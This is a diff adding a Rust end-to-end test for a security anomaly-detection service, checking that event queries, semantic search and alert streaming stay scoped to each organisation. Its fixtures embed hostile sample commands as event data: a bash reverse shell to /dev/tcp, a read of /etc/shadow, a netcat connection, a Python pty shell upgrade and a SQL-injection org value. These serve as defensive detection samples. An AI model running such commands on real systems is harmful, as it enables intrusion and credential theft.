@@ -1,0 +1,406 @@
+//! The query side through real Kafka, ClickHouse and LanceDB: QueryEvents,
+//! GetEvent, Search (the first seed's example) and StreamAlerts, each scoped
+//! by org.
+
+use std::collections::HashSet;
+use std::time::Duration;
+
+use outlier_collector::publish::Publisher;
+use outlier_collector::replay::replay;
+use outlier_e2e::TestEnv;
+use outlier_proto::alert_stream_client::AlertStreamClient;
+use outlier_proto::event_query_client::EventQueryClient;
+use outlier_proto::search_client::SearchClient;
+use outlier_proto::{
+    EventKind, GetEventRequest, QueryEventsRequest, SearchRequest, SortOrder, StreamAlertsRequest,
+    Verdict, search_request,
+};
+use tokio_util::sync::CancellationToken;
+use tonic::Code;
+use tonic::transport::Channel;
+
+fn events(org: &str, prefix: &str) -> String {
+    let mut lines = Vec::new();
+    // A web workload's routine, repeated so it forms a baseline.
+    for i in 0..30 {
+        lines.push(format!(
+            r#"{{"event_id":"{prefix}-nginx-{i}","org":"{org}","workload":"web","host":"web-{h}","kind":"exec","uid":33,"comm":"nginx","parent_comm":"nginx","argv":["nginx: worker process"]}}"#,
+            h = i % 2
+        ));
+        lines.push(format!(
+            r#"{{"event_id":"{prefix}-db-{i}","org":"{org}","workload":"web","host":"web-{h}","kind":"connect","uid":33,"comm":"php-fpm8.2","parent_comm":"php-fpm8.2","remote_ip":"10.0.1.5","remote_port":5432}}"#,
+            h = i % 2
+        ));
+    }
+    lines.push(format!(
+        r#"{{"event_id":"{prefix}-cron","org":"{org}","workload":"web","host":"web-0","kind":"exec","uid":0,"comm":"logrotate","parent_comm":"cron","argv":["/usr/sbin/logrotate","/etc/logrotate.conf"]}}"#
+    ));
+    lines.push(format!(
+        r#"{{"event_id":"{prefix}-revshell","org":"{org}","workload":"web","host":"web-1","kind":"exec","uid":33,"comm":"bash","parent_comm":"php-fpm8.2","argv":["bash","-c","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]}}"#
+    ));
+    lines.push(format!(
+        r#"{{"event_id":"{prefix}-shadow","org":"{org}","workload":"web","host":"web-1","kind":"open","uid":33,"comm":"cat","parent_comm":"bash","path":"/etc/shadow","flags":0}}"#
+    ));
+    lines.join("\n") + "\n"
+}
+
+async fn wait_indexed(q: &mut EventQueryClient<Channel>, org: &str, n: usize) {
+    for _ in 0..240 {
+        let r = q
+            .query_events(QueryEventsRequest {
+                org: org.into(),
+                page_size: 1000,
+                ..QueryEventsRequest::default()
+            })
+            .await;
+        if let Ok(r) = r
+            && r.into_inner().events.len() >= n
+        {
+            return;
+        }
+        tokio::time::sleep(Duration::from_millis(250)).await;
+    }
+    panic!("{n} events of {org} never became queryable");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn query_search_and_alerts_are_org_scoped() {
+    let env = TestEnv::new("query").await;
+    let shutdown = CancellationToken::new();
+    let mut scorer_cfg = env.scorer_config();
+    scorer_cfg.baseline.warmup_events = 10;
+    let indexer_cfg = env.indexer_config();
+    let addr = format!("http://{}", indexer_cfg.grpc_addr);
+    let scorer = tokio::spawn(outlier_scorer::run(scorer_cfg, shutdown.clone()));
+    let indexer = tokio::spawn(outlier_indexer::run(indexer_cfg, shutdown.clone()));
+
+    let (a, b) = (format!("a-{}", env.id), format!("b-{}", env.id));
+    let publisher = Publisher::new(&env.kafka, "e2e").unwrap();
+    replay(events(&a, "a").as_bytes(), &publisher)
+        .await
+        .unwrap();
+    replay(events(&b, "b").as_bytes(), &publisher)
+        .await
+        .unwrap();
+
+    let channel = {
+        let mut tries = 0;
+        loop {
+            match Channel::from_shared(addr.clone()).unwrap().connect().await {
+                Ok(c) => break c,
+                Err(_) if tries < 100 => {
+                    tries += 1;
+                    tokio::time::sleep(Duration::from_millis(100)).await;
+                }
+                Err(e) => panic!("grpc: {e}"),
+            }
+        }
+    };
+    let mut q = EventQueryClient::new(channel.clone());
+    wait_indexed(&mut q, &a, 63).await;
+    wait_indexed(&mut q, &b, 63).await;
+
+    // QueryEvents: only the org's events, every filter applied.
+    let all = q
+        .query_events(QueryEventsRequest {
+            org: a.clone(),
+            page_size: 1000,
+            ..QueryEventsRequest::default()
+        })
+        .await
+        .unwrap()
+        .into_inner()
+        .events;
+    assert_eq!(all.len(), 63);
+    assert!(
+        all.iter().all(|e| e.event.as_ref().unwrap().org == a),
+        "org A sees only org A"
+    );
+    let ts: Vec<u64> = all
+        .iter()
+        .map(|e| e.event.as_ref().unwrap().ts_ns)
+        .collect();
+    assert!(ts.windows(2).all(|w| w[0] >= w[1]), "newest first");
+
+    let alerts = q
+        .query_events(QueryEventsRequest {
+            org: a.clone(),
+            verdicts: vec![Verdict::Alert as i32],
+            ..QueryEventsRequest::default()
+        })
+        .await
+        .unwrap()
+        .into_inner()
+        .events;
+    let ids: HashSet<String> = alerts
+        .iter()
+        .map(|e| e.event.as_ref().unwrap().event_id.clone())
+        .collect();
+    assert!(
+        ids.contains("a-revshell") && ids.contains("a-shadow"),
+        "{ids:?}"
+    );
+    assert!(alerts.iter().all(|e| e.verdict() == Verdict::Alert));
+
+    let opens = q
+        .query_events(QueryEventsRequest {
+            org: a.clone(),
+            kinds: vec![EventKind::Open as i32],
+            hosts: vec!["web-1".into()],
+            ..QueryEventsRequest::default()
+        })
+        .await
+        .unwrap()
+        .into_inner()
+        .events;
+    assert_eq!(opens.len(), 1);
+    let text = q
+        .query_events(QueryEventsRequest {
+            org: a.clone(),
+            text_contains: "/DEV/TCP".into(),
+            ..QueryEventsRequest::default()
+        })
+        .await
+        .unwrap()
+        .into_inner()
+        .events;
+    assert_eq!(text.len(), 1);
+    assert_eq!(text[0].event.as_ref().unwrap().event_id, "a-revshell");
+    // A quote in a filter is a value, not SQL.
+    let injected = q
+        .query_events(QueryEventsRequest {
+            org: format!("{a}' OR '1'='1"),
+            ..QueryEventsRequest::default()
+        })
+        .await
+        .unwrap()
+        .into_inner()
+        .events;
+    assert!(injected.is_empty());
+
+    // Pagination: pages of 7 in both sort orders cover everything once.
+    for order in [
+        SortOrder::NewestFirst,
+        SortOrder::OldestFirst,
+        SortOrder::ScoreDesc,
+    ] {
+        let mut seen = Vec::new();
+        let mut token = String::new();
+        loop {
+            let page = q
+                .query_events(QueryEventsRequest {
+                    org: a.clone(),
+                    page_size: 7,
+                    page_token: token.clone(),
+                    order: order as i32,
+                    ..QueryEventsRequest::default()
+                })
+                .await
+                .unwrap()
+                .into_inner();
+            seen.extend(
+                page.events
+                    .iter()
+                    .map(|e| e.event.as_ref().unwrap().event_id.clone()),
+            );
+            if page.next_page_token.is_empty() {
+                break;
+            }
+            token = page.next_page_token;
+        }
+        assert_eq!(seen.len(), 63, "{order:?}");
+        assert_eq!(
+            seen.iter().collect::<HashSet<_>>().len(),
+            63,
+            "{order:?}: no duplicates"
+        );
+    }
+
+    // GetEvent: found in its org, not found from another.
+    let got = q
+        .get_event(GetEventRequest {
+            org: a.clone(),
+            event_id: "a-revshell".into(),
+        })
+        .await
+        .unwrap()
+        .into_inner();
+    assert_eq!(got.event.unwrap().event.unwrap().comm, "bash");
+    let err = q
+        .get_event(GetEventRequest {
+            org: b.clone(),
+            event_id: "a-revshell".into(),
+        })
+        .await
+        .unwrap_err();
+    assert_eq!(err.code(), Code::NotFound);
+    let err = q
+        .get_event(GetEventRequest {
+            org: String::new(),
+            event_id: "x".into(),
+        })
+        .await
+        .unwrap_err();
+    assert_eq!(err.code(), Code::InvalidArgument);
+
+    // Search: the first seed's example. The query has none of the event's words.
+    let mut s = SearchClient::new(channel.clone());
+    let mut hits = Vec::new();
+    for _ in 0..40 {
+        hits = s
+            .search(SearchRequest {
+                org: a.clone(),
+                query: Some(search_request::Query::Text(
+                    "reverse shell bash outbound connection".into(),
+                )),
+                limit: 5,
+                ..SearchRequest::default()
+            })
+            .await
+            .unwrap()
+            .into_inner()
+            .hits;
+        if !hits.is_empty() {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(250)).await;
+    }
+    let top = hits[0].event.as_ref().unwrap().event.as_ref().unwrap();
+    assert_eq!(top.event_id, "a-revshell", "{hits:?}");
+    assert!(
+        hits.iter()
+            .all(|h| h.event.as_ref().unwrap().event.as_ref().unwrap().org == a)
+    );
+    assert!(hits.windows(2).all(|w| w[0].similarity >= w[1].similarity));
+    let hits_b = s
+        .search(SearchRequest {
+            org: b.clone(),
+            query: Some(search_request::Query::Text(
+                "reverse shell bash outbound connection".into(),
+            )),
+            limit: 50,
+            ..SearchRequest::default()
+        })
+        .await
+        .unwrap()
+        .into_inner()
+        .hits;
+    assert!(
+        hits_b
+            .iter()
+            .all(|h| h.event.as_ref().unwrap().event.as_ref().unwrap().org == b),
+        "org B never sees org A"
+    );
+
+    // StreamAlerts: from now, only the org's alerts, resumable by cursor.
+    let mut alerts_client = AlertStreamClient::new(channel.clone());
+    let mut stream = alerts_client
+        .stream_alerts(StreamAlertsRequest {
+            org: a.clone(),
+            ..StreamAlertsRequest::default()
+        })
+        .await
+        .unwrap()
+        .into_inner();
+    tokio::time::sleep(Duration::from_secs(1)).await;
+    let novel = |org: &str, id: &str, port: u32| {
+        format!(
+            r#"{{"event_id":"{id}","org":"{org}","workload":"web","host":"web-9","kind":"connect","uid":33,"comm":"nc","parent_comm":"php-fpm8.2","remote_ip":"198.51.100.7","remote_port":{port}}}"#
+        ) + "\n"
+    };
+    let st = replay(novel(&b, "b-live-1", 31337).as_bytes(), &publisher)
+        .await
+        .unwrap();
+    assert_eq!(st.published, 1);
+    replay(novel(&a, "a-live-1", 31338).as_bytes(), &publisher)
+        .await
+        .unwrap();
+    let first = match tokio::time::timeout(Duration::from_secs(30), stream.message()).await {
+        Ok(m) => m.unwrap().unwrap(),
+        Err(_) => {
+            let seen = outlier_e2e::read_scored(
+                &env.kafka,
+                &env.kafka.topics.scored,
+                Duration::from_secs(10),
+                |_| false,
+            )
+            .await;
+            let live: Vec<_> = seen
+                .iter()
+                .filter(|s| s.event.as_ref().unwrap().event_id.contains("live"))
+                .map(|s| {
+                    (
+                        s.event.as_ref().unwrap().event_id.clone(),
+                        s.anomaly_score,
+                        s.verdict(),
+                    )
+                })
+                .collect();
+            panic!("no alert streamed; scored live events: {live:?}");
+        }
+    };
+    assert_eq!(
+        first
+            .event
+            .as_ref()
+            .unwrap()
+            .event
+            .as_ref()
+            .unwrap()
+            .event_id,
+        "a-live-1",
+        "org B's alert is not streamed to A"
+    );
+    drop(stream);
+    // A different behaviour (a-live-1 was a warning, so it was learned).
+    let pty = format!(
+        r#"{{"event_id":"a-live-2","org":"{a}","workload":"web","host":"web-9","kind":"exec","uid":33,"comm":"python3","parent_comm":"php-fpm8.2","argv":["python3","-c","import pty; pty.spawn('/bin/sh')"]}}"#
+    ) + "\n";
+    replay(pty.as_bytes(), &publisher).await.unwrap();
+    let mut resumed = alerts_client
+        .stream_alerts(StreamAlertsRequest {
+            org: a.clone(),
+            resume_cursor: first.cursor.clone(),
+            ..StreamAlertsRequest::default()
+        })
+        .await
+        .unwrap()
+        .into_inner();
+    let next = match tokio::time::timeout(Duration::from_secs(30), resumed.message()).await {
+        Ok(m) => m.unwrap().unwrap(),
+        Err(_) => {
+            let seen = outlier_e2e::read_scored(
+                &env.kafka,
+                &env.kafka.topics.alerts,
+                Duration::from_secs(10),
+                |_| false,
+            )
+            .await;
+            let live: Vec<_> = seen
+                .iter()
+                .filter(|s| s.event.as_ref().unwrap().event_id.contains("live"))
+                .map(|s| {
+                    (
+                        s.event.as_ref().unwrap().event_id.clone(),
+                        s.anomaly_score,
+                        s.verdict(),
+                    )
+                })
+                .collect();
+            panic!(
+                "nothing after resuming at {}; alerts topic has {live:?}",
+                first.cursor
+            );
+        }
+    };
+    assert_eq!(
+        next.event.unwrap().event.unwrap().event_id,
+        "a-live-2",
+        "resumes right after the cursor"
+    );
+
+    shutdown.cancel();
+    scorer.await.unwrap().unwrap();
+    indexer.await.unwrap().unwrap();
+    env.cleanup().await;
+}
